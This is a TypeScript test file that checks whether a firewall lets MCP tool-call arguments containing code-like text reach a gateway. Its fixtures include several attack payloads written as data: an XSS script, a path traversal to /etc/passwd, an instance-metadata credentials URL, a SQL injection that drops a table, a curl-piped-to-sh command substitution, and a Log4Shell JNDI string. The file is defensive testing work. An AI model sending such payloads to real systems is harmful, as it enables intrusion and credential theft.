import { describe, expect, it } from 'vitest';
import { has, report } from './deployment.ts';
import { send } from './exchange.ts';

// Question 6: whether a firewall lets real MCP traffic through. Tool arguments contain code, HTML, paths and URLs by
// right. The tool does not exist, so nothing is called; a JSON-RPC error shows that the function saw the message.

const texts = {
  'a script element': '<script>fetch("/admin/keys").then(r => r.text())</script>',
  'a path that climbs': '../../../../etc/passwd',
  'a URL of instance metadata': 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'a URL with a file to include': 'https://example.com/shell.txt?cmd=id',
  'a database statement': "' OR 1=1; DROP TABLE dealers; --",
  'a shell command': '$(curl -s https://example.com/x.sh | sh)',
  'a hundred kilobytes of text': 'The quick brown fox jumps over the lazy dog. '.repeat(2_300),
};

const call = (text: string) => send('tools/call', { name: 'gatehouse_probe_no_such_tool', arguments: { text } });

describe.skipIf(!has.token)('a tool call', () => {
  it.each(Object.entries(texts))('with %s reaches the gateway', async (kind, text) => {
    const answer = await call(text);
    report(`6: ${kind}: ${answer.status}`, answer.body.slice(0, 200));
    expect(answer.status).not.toBe(403);
    expect(JSON.parse(answer.body)).toMatchObject({ jsonrpc: '2.0', error: { code: -32602 } });
  });

  it('with a known attack is refused by the firewall, or by the gateway like any other', async () => {
    const answer = await call('$' + '{jndi:ldap://example.com/a}');
    report(`6: a lookup that a logging library once ran: ${answer.status}`, answer.body.slice(0, 200));
    expect([200, 403]).toContain(answer.status);
  });
});
